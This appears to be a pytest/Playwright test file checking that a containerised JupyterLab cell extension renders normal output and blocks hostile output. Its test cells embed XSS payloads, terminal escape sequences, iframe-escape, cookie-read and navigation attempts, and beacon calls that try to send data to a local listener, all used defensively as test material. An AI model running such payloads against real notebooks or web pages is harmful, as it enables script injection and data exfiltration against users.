"""Cells in containers on a page of real JupyterLab: how they look, and what a hostile one can reach: nothing."""

from __future__ import annotations

import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

sys.path.insert(0, str(Path(__file__).parent))

from test_images import dark
from test_jupyterlab import CHROMIUM, FLAGS, pytestmark, shot

pytestmark = [*pytestmark]

SHOWN = """%%container python -i df -o result --memory 512m
import matplotlib.pyplot as plt
print("rows:", len(df))
plt.figure(figsize=(4, 2)); plt.plot(df.price); plt.show()
import plotly.graph_objects as go
display(go.Figure(go.Bar(x=df.fruit, y=df.price), layout=dict(height=260, title="prices")))
result = df.price.sum()
df"""
BROKEN = """%%container python
def ratio(a, b):
    return a / b

ratio(1, 0)"""
#: Whatever a page would run or load, in every form that something is shown in, past our own display() too.
HOSTILE = """%%container python
BEACON = "{beacon}"
SCRIPT = "window.hostile = 1; document.title = 'hostile'; fetch('" + BEACON + "/fetched')"
MARKUP = f'<img src="{{BEACON}}/img" onerror="{{SCRIPT}}"><script>{{SCRIPT}}</script><svg onload="{{SCRIPT}}"></svg>'
import gc, json, socket, struct, os
conn = next(o for o in gc.get_objects() if isinstance(o, socket.socket))
mark = next(o for o in gc.get_objects() if type(o).__name__ == "Runner")._mark
def send(**forms):
    data = [value if isinstance(value, bytes) else value.encode() for value in forms.values()]
    kinds = [kind.replace("__", "/").replace("_X", "+").replace("_D", ".") for kind in forms]
    text = json.dumps({{"op": "display", "kinds": kinds, "sizes": [len(d) for d in data]}}).encode()
    conn.sendall(struct.pack("<IQ", len(text), sum(map(len, data))) + text + b"".join(data)); os.write(1, mark)
print("printed", MARKUP, "\\x1b]8;;" + BEACON + "/osc\\x07link\\x1b]8;;\\x07")
send(text__plain="plain " + MARKUP)
for kind in ("text__html", "image__svg_Xxml", "application__javascript", "text__latex", "text__markdown",
             "application__vnd_Djupyter_Dwidget-view_Xjson", "application__geo_Xjson"):
    send(text__plain="instead of " + kind, **{{kind: MARKUP}})
send(text__plain="no picture", image__png=MARKUP)
send(text__plain="huge", image__gif=b"GIF89a\\xff\\xff\\xff\\xff;")
cell = {{"columns": ["", MARKUP], "rows": [[MARKUP, MARKUP + "$\\\\href{{javascript:window.hostile=1}}{{x}}$"]], "size": [1, 1]}}
send(text__plain="table", application__vnd_Dpycontainers_Dtable_Dv1_Xjson=json.dumps(cell))
LINK = "<a href='javascript:window.hostile=1' target='_self'>annotated</a>"
figure = {{"data": [{{"type": "bar", "x": ["a" + MARKUP, LINK], "y": [1, 2], "hovertext": [MARKUP, MARKUP]}}],
          "layout": {{"title": {{"text": LINK + MARKUP}}, "height": 240, "images": [{{"source": BEACON + "/layout.png", "xref": "paper",
          "yref": "paper", "x": 0, "y": 1, "sizex": 1, "sizey": 1}}],
          "template": {{"layout": {{"images": [{{"source": BEACON + "/t.png"}}]}}}},
          "annotations": [{{"text": LINK, "x": 0, "y": 1}}],
          "updatemenus": [{{"buttons": [{{"method": "relayout", "args": ["images[0].source", BEACON + "/b.png"], "label": "press"}}]}}]}},
          "config": {{"plotlyServerURL": BEACON, "topojsonURL": BEACON}}}}
send(text__plain="figure", application__vnd_Dplotly_Dv1_Xjson=json.dumps(figure))
AWAY = 'a href="' + BEACON + '/away"'
# Links that come about when something between is cut out, and when plotly.js puts texts together.
figure = {{"data": [{{"type": "scatter", "x": [AWAY + ">tick</a>", " 1 < 2"], "y": [1, 2], "mode": "text", "customdata": [AWAY, AWAY],
                    "texttemplate": "<%{{customdata}}>template</a>"}}],
          "layout": {{"title": {{"text": "<<x>" + AWAY + ">joined</a>"}}, "height": 240,
                     "width": 900, "xaxis": {{"tickprefix": "<"}}}}}}
send(text__plain="links", application__vnd_Dplotly_Dv1_Xjson=json.dumps(figure))
figure = {{"data": [{{"type": "choropleth", "geojson": BEACON + "/geo.json", "locations": ["a"], "z": [1]}}], "layout": {{}}}}
send(text__plain="a map", application__vnd_Dplotly_Dv1_Xjson=json.dumps(figure))
raise ValueError(MARKUP + "\\x1b]52;c;aGk=\\x07")"""
FRAMED = """%%container python --html
BEACON = "{beacon}"
class Page:
    def _repr_html_(self):
        return '''<h3 id=own>a page of its own</h3><img src="''' + BEACON + '''/fi"><link rel=prefetch href="''' + BEACON + '''/fp">
<iframe src="''' + BEACON + '''/ff"></iframe><object data="''' + BEACON + '''/fo"></object>
<form action="''' + BEACON + '''/form" method=post><input name=a value=b></form>
<style>@import "''' + BEACON + '''/css"; body {{ background-image: url(''' + BEACON + '''/bg) }}</style>
<script>
const found = [];
function attempt(name, act) {{ try {{ act(); found.push(name + ' ran') }} catch (error) {{ found.push(name + ' refused') }} }}
attempt('parent', () => parent.document.title = 'hostile');
attempt('parent.parent', () => parent.parent.document.title = 'hostile');
attempt('top', () => top.document.title = 'hostile');
attempt('storage', () => localStorage.length);
attempt('cookie', () => document.cookie);
attempt('topnav', () => {{ top.location = BEACON + '/top' }});
attempt('open', () => {{ if (!window.open("''' + BEACON + '''/open")) throw 1 }});
fetch("''' + BEACON + '''/fetch").catch(() => 0);
navigator.sendBeacon && navigator.sendBeacon("''' + BEACON + '''/sent", 'x');
try {{ new WebSocket("''' + BEACON.replace("http", "ws") + '''/ws") }} catch (error) {{ }}
new Image().src = "''' + BEACON + '''/new";
parent.parent.postMessage({{hostile: 1}}, '*');
document.getElementById('own').textContent = found.join(', ');
try {{ document.forms[0].submit() }} catch (error) {{ }}
</script>'''
class Leaving:
    def __init__(self, script):
        self.script = script
    def _repr_html_(self):
        meta = '<meta http-equiv=refresh content="0;url=' + BEACON + '/meta">'
        return meta + '<script>setTimeout(() => {{ ' + self.script + ' = "' + BEACON + '/away?secret" }}, 50)</script>'
display(Page(), Leaving("location.href"), Leaving("parent.location.href"))"""


class Beacon(ThreadingHTTPServer):
    """Whatever reaches the network is heard here."""

    def __init__(self) -> None:
        heard = self.heard = []  # type: list[str]

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                heard.append(self.path)
                self.send_response(200)
                self.end_headers()
                self.wfile.write(b"heard")

            do_POST = do_GET

            def log_message(self, *args: Any) -> None:
                pass

        super().__init__(("127.0.0.1", 0), Handler)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"


@pytest.fixture(scope="module")
def beacon() -> Iterator[Beacon]:
    found = Beacon()
    threading.Thread(target=found.serve_forever, daemon=True).start()
    yield found
    found.shutdown()
    found.server_close()


@pytest.fixture(scope="module")
def page(state: Any, tmp_path_factory: pytest.TempPathFactory, beacon: Beacon) -> Iterator[Any]:
    import test_jupyterlab
    from lab import running
    from playwright.sync_api import sync_playwright

    cells = [
        "%load_ext pycontainers\nimport pandas as pd, pycontainers as pc, time\n"
        "df = pd.DataFrame({'fruit': ['apple', 'pear', 'fig'], 'price': [1.25, 3, 0.5]})",
        SHOWN,
        BROKEN,
        "%%container python --memory 64m\nx = bytearray(1 << 30)",
        "def half(x):\n    time.sleep(0.2)\n    return x / 2\nprint(pc.map(half, range(6), workers=2), result)",
        HOSTILE.format(beacon=beacon.url),
        FRAMED.format(beacon=beacon.url),
        "print('all' + ' done')",
    ]
    folder = tmp_path_factory.mktemp("python")
    with (
        running(folder, {"PYCONTAINERS_HOME": str(state.home), "PYCONTAINERS_RUN": str(state.run)}) as lab,
        sync_playwright() as playwright,
    ):
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=FLAGS)
        found = browser.new_page(viewport={"width": 1280, "height": 5000})
        found.set_default_timeout(60_000)
        found.goto(lab.notebook("python.ipynb", cells))
        test_jupyterlab.connected(found)
        # JupyterLab keeps what is out of sight out of the page, and loses track of that at times: all of this is to be seen.
        found.evaluate(
            "() => { const book = window.jupyterapp.shell.currentWidget.content;"
            " book.notebookConfig = {...book.notebookConfig, windowingMode: 'none'}; }"
        )
        # An error ends "run all": each cell is run by itself.
        for place in range(len(cells)):
            found.evaluate(
                "async place => { const panel = window.jupyterapp.shell.currentWidget; panel.content.activeCellIndex = place;"
                " await window.jupyterapp.commands.execute('notebook:run-cell'); }",
                place,
            )
        found.locator(".jp-OutputArea-output").get_by_text("all done").first.wait_for()
        yield found
        browser.close()


def output(page: Any, cell: int) -> Any:
    return page.locator(".jp-CodeCell").nth(cell).locator(".jp-OutputArea")


def test_what_a_cell_shows_is_there(page: Any) -> None:
    first = output(page, 1)
    first.get_by_text("rows: 3").first.wait_for()
    first.locator("img").first.wait_for()
    first.locator(".main-svg").first.wait_for()
    first.locator("td", has_text="apple").wait_for()
    assert "3 rows × 2 columns" in first.inner_text()
    assert "----> 5 ratio(1, 0)" in output(page, 2).inner_text() and "inside the container" in output(page, 2).inner_text()
    assert "ran out of memory" in output(page, 3).inner_text()
    text = output(page, 4).inner_text()
    assert "[0.0, 0.5, 1.0, 1.5, 2.0, 2.5] 4.75" in text and "✓ half: 6 of 6, in" in text


@pytest.mark.parametrize("theme", ["light", "dark"])
def test_it_can_be_looked_at(page: Any, theme: str) -> None:
    dark(page, theme == "dark")
    shot(page, f"python-cell-{theme}")


def test_nothing_from_a_hostile_cell_reaches_the_page(page: Any, beacon: Beacon) -> None:
    dark(page, False)
    hostile = output(page, 5)
    hostile.get_by_text("ValueError").first.wait_for()
    text = hostile.inner_text()
    assert "instead of text__html" in text and "left out" in text and "\x1b" not in text
    # Of what it wanted there is only text, one table and two figures.
    loaded = hostile.locator("iframe, script, img:not(.plot-img), object, embed, [onerror], [onload]")
    assert [one.evaluate("one => one.outerHTML.slice(0, 200)") for one in loaded.all()] == []
    drawn = hostile.locator(".js-plotly-plot").last
    drawn.locator(".textpoint").first.wait_for()
    assert hostile.locator(".js-plotly-plot").count() == 2 and hostile.locator(".main-svg a, .main-svg image").count() == 0
    away = f'a href="{beacon.url}/away"'
    for written in (f"<{away}>template", f"<<x>{away}>joined", f"<{away}>tick", "< 1 < 2"):  # words, as they were written
        assert written in drawn.inner_text(), drawn.inner_text()
    assert hostile.locator("a[href^='javascript:']").count() == 0 and hostile.locator(".updatemenu-button").count() == 0
    framed = output(page, 6)
    inner = framed.frame_locator("iframe >> nth=0").frame_locator("iframe")
    told = inner.locator("#own")
    told.filter(has_text="refused").wait_for()
    found = told.inner_text()
    for name in ("parent", "parent.parent", "top", "storage", "cookie", "open"):
        assert f"{name} refused" in found, found
    page.wait_for_timeout(500)  # what the others still try by themselves
    assert framed.locator("iframe").count() == 3 and beacon.heard == []
    assert page.evaluate("window.hostile") is None and "hostile" not in page.title() and "/lab" in page.url
